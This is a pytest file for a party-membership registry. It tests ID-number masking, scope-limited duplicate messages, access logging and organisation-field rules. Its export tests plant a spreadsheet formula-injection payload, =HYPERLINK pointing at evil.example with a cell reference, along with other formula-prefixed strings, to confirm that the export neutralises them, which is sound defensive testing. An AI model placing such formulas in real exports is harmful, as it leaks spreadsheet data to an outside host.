"""Personal data stays within scope, through every side channel (issue "Safe to put in service", part 2).

The ID number mask cannot be rebuilt; it is applied in the API, the admin, exports, history,
import reports and errors; duplicate checks outside the scope name nobody; reads of personal
data are in the access log (API, admin, export, cached hits); only the county reads the log;
exports neutralise formulas; an account cannot change its own organisation's kind, code or
place. Every test that takes `db` (through `gql`, `client`, `world`) runs on both databases.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from typing import Any

import openpyxl
import pytest
from sqlalchemy import func, select
from stdnum.cn import ric

from partygraph import exports
from partygraph.context import Context
from partygraph.graphql.types.common import mask_id_number
from partygraph.imports import member as member_import
from partygraph.models.access_log import AccessLog
from partygraph.models.account import Account
from partygraph.services import account as accounts
from partygraph.services import member as member_service
from tests.conftest import LI_ID, login

OLD_MASK = LI_ID[:6] + "********" + LI_ID[-4:]
MASKED_LI = LI_ID[:2] + "*" * 16


# --- the mask ----------------------------------------------------------------------------------


def _valid_numbers(region: str, born: date, male: bool) -> list[str]:
    out = []
    for seq in range(1000):
        if (seq % 2 == 1) != male:
            continue
        body = f"{region}{born:%Y%m%d}{seq:03d}"
        out.append(body + ric.calc_check_digit(body + "0"))  # it wants a placeholder check digit
    return out


@pytest.mark.parametrize(
    "number",
    ["513221198003020026", "11010519491231002X", "440305200001011234", "51322119700501001X", "650102199912319876"],
)
def test_the_mask_cannot_be_rebuilt_from_birth_date_and_gender(number: str) -> None:
    number = number[:17] + ric.calc_check_digit(number[:17] + "0")
    assert ric.is_valid(number)
    masked = mask_id_number(number)
    assert masked == number[:2] + "*" * 16
    born = ric.get_birth_date(number)
    male = int(number[16]) % 2 == 1
    # Even told the exact county code (the organisation's region), the birth date and the
    # gender, every one of the 500 sequences fits the masked value: nothing singles it out.
    fits = [n for n in _valid_numbers(number[:6], born, male) if mask_id_number(n) == masked]
    assert number in fits and len(fits) == 500
    # The old mask let the birth date give the number back.
    old = number[:6] + "********" + number[-4:]
    assert [n for n in _valid_numbers(number[:6], born, male) if n[:6] + "********" + n[-4:] == old] == [number]


def test_mask_keeps_length_and_leaves_a_masked_value_alone() -> None:
    assert mask_id_number(None) is None and mask_id_number("") == ""
    assert mask_id_number("513221800302002") == "51" + "*" * 13
    assert mask_id_number(MASKED_LI) == MASKED_LI


# --- masked everywhere below the county ------------------------------------------------------------

MEMBER_Q = "query($id: ID!) { node(id: $id) { ... on Member { idNumber history { before after } } } }"


def _apply(gql: Any, world: Any, user: str, org: str, number: str, name: str = "周八") -> dict[str, Any]:
    return gql(
        """mutation($input: ApplyForMembershipInput!) { applyForMembership(input: $input) {
             __typename ... on CandidatePayload { candidate { id idNumber } }
             ... on Error { code message messageZh messageEn field } } }""",
        {"input": {"orgId": world.gid("Organization", org), "appliedOn": "2026-10-01", "name": name, "gender": "female",
                   "birthDate": "1980-03-02", "education": "senior_high", "idNumber": number}},
        user=user,
    )["applyForMembership"]


def test_api_and_history_mask_for_a_village_account(gql, world) -> None:
    li = world.gid("Member", "li")
    data = gql(MEMBER_Q, {"id": li}, user="village")["node"]
    assert data["idNumber"] == MASKED_LI
    assert LI_ID not in str(data["history"]) and OLD_MASK not in str(data["history"])
    assert MASKED_LI in str(data["history"])  # the registration's after values, masked
    county = gql(MEMBER_Q, {"id": li}, user="county")["node"]
    assert county["idNumber"] == LI_ID and LI_ID in str(county["history"])
    # A candidate's number too, in its own fields and history.
    other = "513221198003020034"
    cand = _apply(gql, world, "village", "V1", other)
    assert cand["__typename"] == "CandidatePayload" and cand["candidate"]["idNumber"] == other[:2] + "*" * 16
    hist = gql("query($id: ID!) { node(id: $id) { ... on Candidate { history { after } } } }", {"id": cand["candidate"]["id"]}, user="village")
    assert other not in str(hist) and other[:2] + "*" * 16 in str(hist)


def test_duplicate_outside_scope_says_only_already_registered(gql, world) -> None:
    register = """mutation($input: RegisterMemberInput!) { registerMember(input: $input) {
        __typename ... on Error { code message messageZh messageEn field } } }"""
    base = {"name": "孙九", "gender": "female", "birthDate": "1980-03-02", "education": "junior_high", "joinedOn": "2010-07-01",
            "convertedOn": "2011-07-01", "idNumber": LI_ID}
    # 李四 is in 布瓦村 (V1): a clerk of 渔子溪村 (V3) learns neither who nor where.
    out = gql(register, {"input": {**base, "orgId": world.gid("Organization", "V3")}}, user="village3")["registerMember"]
    assert out["__typename"] == "RuleViolation" and out["code"] == "DUPLICATE" and out["field"] == "idNumber"
    assert out["messageZh"] == member_service.REGISTERED_ELSEWHERE[0] and out["messageEn"] == member_service.REGISTERED_ELSEWHERE[1]
    assert "李四" not in str(out) and "布瓦" not in str(out) and LI_ID not in str(out)
    # Inside the scope naming the holder is fine.
    out = gql(register, {"input": {**base, "orgId": world.gid("Organization", "V1")}}, user="village")["registerMember"]
    assert out["code"] == "DUPLICATE" and "李四" in out["messageZh"]
    # Applications: an open file in 布瓦村, a second application from 渔子溪村.
    number = "513221198003020034"
    assert _apply(gql, world, "village", "V1", number)["__typename"] == "CandidatePayload"
    out = _apply(gql, world, "village3", "V3", number, name="吴十")
    assert out["code"] == "DUPLICATE" and out["messageZh"] == member_service.REGISTERED_ELSEWHERE[0]
    assert "周八" not in str(out)
    assert "周八" in _apply(gql, world, "village", "V1", number, name="吴十")["messageZh"]


def _ctx(session_factory: Any, settings: Any, clock: Any, user: str) -> tuple[Any, Context]:
    s = session_factory()
    account = s.execute(select(Account).where(Account.username == user)).scalar_one()
    return s, Context(session=s, settings=settings, viewer=accounts.viewer_for(s, account), clock=clock)


def test_import_dry_run_outside_scope_names_nobody(world, session_factory, settings, clock) -> None:
    header = "姓名,性别,出生日期,学历,入党日期,转正日期,所在党组织,身份证号码,民族\n"
    row = f"孙九,女,1980-03-02,初中,2010-07-01,2011-07-01,渔子溪村党支部,{LI_ID},汉族\n"
    s, ctx = _ctx(session_factory, settings, clock, "village3")
    with s:
        report = member_import.import_members(ctx, (header + row).encode("utf-8"), "members.csv")
    problems = [p for p in report.problems if p.field == "id_number"]
    assert problems and problems[0].code == "DUPLICATE"
    assert problems[0].message_zh == member_service.REGISTERED_ELSEWHERE[0]
    assert "李四" not in str(report.__dict__) and LI_ID not in str(report.__dict__)


# --- exports --------------------------------------------------------------------------------------


def test_exports_mask_and_neutralise_formulas(client, world, session_factory, settings, clock, tmp_path) -> None:
    with session_factory() as s:
        from tests.conftest import system_context

        member_service.register(
            system_context(s, settings, clock), org_id=world.ids["V1"], name="赵九", gender="male", birth_date=date(1970, 1, 1),
            education="junior_high", joined_on=date(1995, 7, 1), converted_on=date(1996, 7, 1),
            occupation='=HYPERLINK("http://evil.example/?"&A1,"点我")', notes="@SUM(1+1)", phone="+8613800000000",
        )
        s.commit()
    login(client, "village")
    r = client.get("/admin/members", params={"format": "csv"})
    text = r.content.decode("utf-8-sig")
    assert LI_ID not in text and OLD_MASK not in text and MASKED_LI in text
    rows = list(csv.reader(io.StringIO(text)))
    occupation = rows[0].index("职业")
    zhao = next(row for row in rows if row[0] == "赵九")
    assert zhao[occupation] == "'" + '=HYPERLINK("http://evil.example/?"&A1,"点我")'
    # Only a number: no formula can hide in it, so it stays as it is.
    assert zhao[rows[0].index("联系电话")] == "+8613800000000"
    assert not any(cell.startswith(("=", "@", "\t", "\r")) for row in rows for cell in row)
    # The roster export (exports.py): masked, and text cells are text in .xlsx.
    s, ctx = _ctx(session_factory, settings, clock, "village")
    with s:
        ds = exports.members_dataset(ctx)
        path = tmp_path / "roster.xlsx"
        exports.write_xlsx(path, ds)
        s2, ctx2 = _ctx(session_factory, settings, clock, "village")
        with s2:
            lines = "".join(exports.csv_lines(exports.members_dataset(ctx2)))
    assert LI_ID not in lines and MASKED_LI in lines and "'=HYPERLINK" in lines and "'@SUM(1+1)" in lines
    ws = openpyxl.load_workbook(path).active
    cells = [c for row in ws.iter_rows() for c in row if c.value is not None]
    assert all(c.data_type != "f" for c in cells)
    assert any(c.value == '=HYPERLINK("http://evil.example/?"&A1,"点我")' and c.data_type == "s" for c in cells)
    assert not any(c.value == LI_ID for c in cells) and any(c.value == MASKED_LI for c in cells)


def test_neutralise_keeps_numbers() -> None:
    assert exports.neutralise(-5) == -5 and exports.neutralise(-1.5) == -1.5
    assert exports.neutralise("-865.00") == "-865.00" and exports.neutralise("+12") == "+12"
    assert exports.neutralise("-1+1") == "'-1+1" and exports.neutralise("=1+2") == "'=1+2"
    assert exports.neutralise("\tcmd") == "'\tcmd" and exports.neutralise("\rx") == "'\rx" and exports.neutralise("@A1") == "'@A1"
    assert exports.neutralise("张三") == "张三" and exports.neutralise("") == ""
    assert exports.csv_line(["=1", -3, "a"]) == "'=1,-3,a\r\n"


# --- the access log --------------------------------------------------------------------------------


def _log(session_factory: Any, **where: Any) -> list[AccessLog]:
    with session_factory() as s:
        stmt = select(AccessLog).order_by(AccessLog.id)
        for k, v in where.items():
            stmt = stmt.where(getattr(AccessLog, k) == v)
        return list(s.execute(stmt).scalars())


def test_api_reads_are_logged_and_cached_hits_too(client, world, session_factory) -> None:
    csrf = login(client, "county")
    query = {"query": "query LiPhone($id: ID!) { node(id: $id) { ... on Member { idNumber phone name } } }",
             "variables": {"id": world.gid("Member", "li")}}
    with session_factory() as s:
        s.execute(select(Account)).first()
    before_version = _audit_max(session_factory)
    r = client.post("/graphql", json=query, headers={"x-csrf-token": csrf})
    assert r.status_code == 200 and r.json()["data"]["node"]["idNumber"] == LI_ID
    rows = _log(session_factory, object_id=world.members["li"])
    assert [(x.username, x.object_type, x.field_group, x.path) for x in rows] == [("county", "Member", "id_number", "api:LiPhone")]
    # Nothing was read through the audit trail: the result cache's data version did not move.
    assert _audit_max(session_factory) == before_version
    # The same query again is served from the result cache and logged again.
    r = client.post("/graphql", json=query, headers={"x-csrf-token": csrf})
    assert r.json()["data"]["node"]["idNumber"] == LI_ID
    assert len(_log(session_factory, object_id=world.members["li"])) == 2
    # A masked number is not a read of the number; a village sees it masked: nothing logged.
    client.cookies.clear()
    csrf = login(client, "village")
    client.post("/graphql", json=query, headers={"x-csrf-token": csrf})
    assert not _log(session_factory, username="village")


def _audit_max(session_factory: Any) -> int:
    from partygraph.models.audit import AuditEvent

    with session_factory() as s:
        return int(s.execute(select(func.max(AuditEvent.id))).scalar() or 0)


def test_one_insert_per_list(gql, world, session_factory, sql_counter) -> None:
    with session_factory() as s:
        from tests.conftest import system_context

        ctx = system_context(s, gql.settings, gql.clock)
        for i in range(12):
            member_service.register(ctx, org_id=world.ids["V2"], name=f"钱{i}", gender="male", birth_date=date(1970, 1, 1),
                                    education="junior_high", joined_on=date(1995, 7, 1), converted_on=date(1996, 7, 1),
                                    phone=f"1380000{i:04d}")
        s.commit()
    sql_counter.count, sql_counter.statements[:] = 0, []
    data = gql('{ members(filter: {search: "钱"}, first: 50) { nodes { name phone } } }', user="township")
    assert len(data["members"]["nodes"]) == 12
    inserts = [st for st in sql_counter.statements if st.lstrip().upper().startswith("INSERT INTO ACCESS_LOG")]
    assert len(inserts) == 1
    rows = _log(session_factory, username="township")
    assert len(rows) == 12 and {r.field_group for r in rows} == {"phone"} and rows[0].path == "admin:anonymous"


def test_admin_page_export_and_sensitive_groups_are_logged(client, world, session_factory, settings, clock) -> None:
    login(client, "county")
    assert client.get(f"/admin/members/{world.gid('Member', 'li')}").status_code == 200
    rows = _log(session_factory, object_id=world.members["li"], username="county")
    assert {r.field_group for r in rows} >= {"id_number"} and all(r.path.startswith("admin:") for r in rows)
    client.get("/admin/members", params={"format": "csv"})
    assert any(r.path.startswith("admin:") for r in _log(session_factory, username="county"))
    s, ctx = _ctx(session_factory, settings, clock, "county")
    with s:
        list(exports.members_dataset(ctx).rows)
    exported = _log(session_factory, path="export:members")
    assert {(r.object_id, r.field_group) for r in exported} >= {(world.members["li"], "id_number")}


def test_only_the_county_reads_the_log(gql, world) -> None:
    gql("query($id: ID!) { node(id: $id) { ... on Member { idNumber } } }", {"id": world.gid("Member", "li")}, user="county")
    q = """query($f: AccessLogFilter) { accessLog(filter: $f, first: 10) { totalCount nodes { username objectType objectId
           objectGlobalId fieldGroup fieldGroupLabel path } } }"""
    data = gql(q, {"f": {"objectId": world.gid("Member", "li"), "account": "county"}})["accessLog"]
    assert data["totalCount"] == 1 and data["nodes"][0]["fieldGroup"] == "id_number"
    assert data["nodes"][0]["objectGlobalId"] == world.gid("Member", "li")
    assert gql(q, {"f": {"account": "nobody"}})["accessLog"]["totalCount"] == 0
    assert gql(q, {"f": {"from": "2000-01-01", "to": "2000-01-02"}})["accessLog"]["totalCount"] == 0
    for user in ("township", "village", "viewer", "group"):
        result = gql.run(q, {"f": None}, user=user)
        assert result.errors and result.errors[0].extensions["code"] == "NOT_ALLOWED", user


# --- one's own organisation -------------------------------------------------------------------------

UPDATE = """mutation($input: UpdateOrganizationInput!) { updateOrganization(input: $input) {
    __typename ... on OrganizationPayload { organization { name code kind } }
    ... on Error { code messageZh messageEn field } } }"""
VERSION = "query($id: ID!) { node(id: $id) { ... on Organization { version } } }"


def test_home_organisation_fields(gql, world) -> None:
    v1 = world.gid("Organization", "V1")

    def version() -> int:
        return int(gql(VERSION, {"id": v1})["node"]["version"])

    for change, field in (({"kind": "committee"}, "kind"), ({"code": "V1-NEW"}, "code"), ({"branchType": "community"}, "branchType")):
        out = gql(UPDATE, {"input": {"id": v1, "version": version(), **change}}, user="village")["updateOrganization"]
        assert out["__typename"] == "RuleViolation" and out["code"] == "R-ORG-HOME" and out["field"] == field, change
        assert out["messageZh"] and out["messageEn"]
    # Unchanged values sent back, and the fields the village keeps, pass.
    out = gql(UPDATE, {"input": {"id": v1, "version": version(), "code": "V1", "name": "布瓦村党支部（新）", "address": "布瓦村"}}, user="village")
    assert out["updateOrganization"]["organization"]["name"] == "布瓦村党支部（新）"
    # The level above may renumber it.
    out = gql(UPDATE, {"input": {"id": v1, "version": version(), "code": "V1-B"}}, user="township")["updateOrganization"]
    assert out["organization"]["code"] == "V1-B"
    dissolve = gql(
        """mutation($input: DissolveOrganizationInput!) { dissolveOrganization(input: $input) {
             __typename ... on Error { code } } }""",
        {"input": {"id": v1, "version": version(), "on": "2026-10-01", "reason": "合并"}}, user="village",
    )["dissolveOrganization"]
    assert dissolve == {"__typename": "RuleViolation", "code": "R-ORG-HOME"}
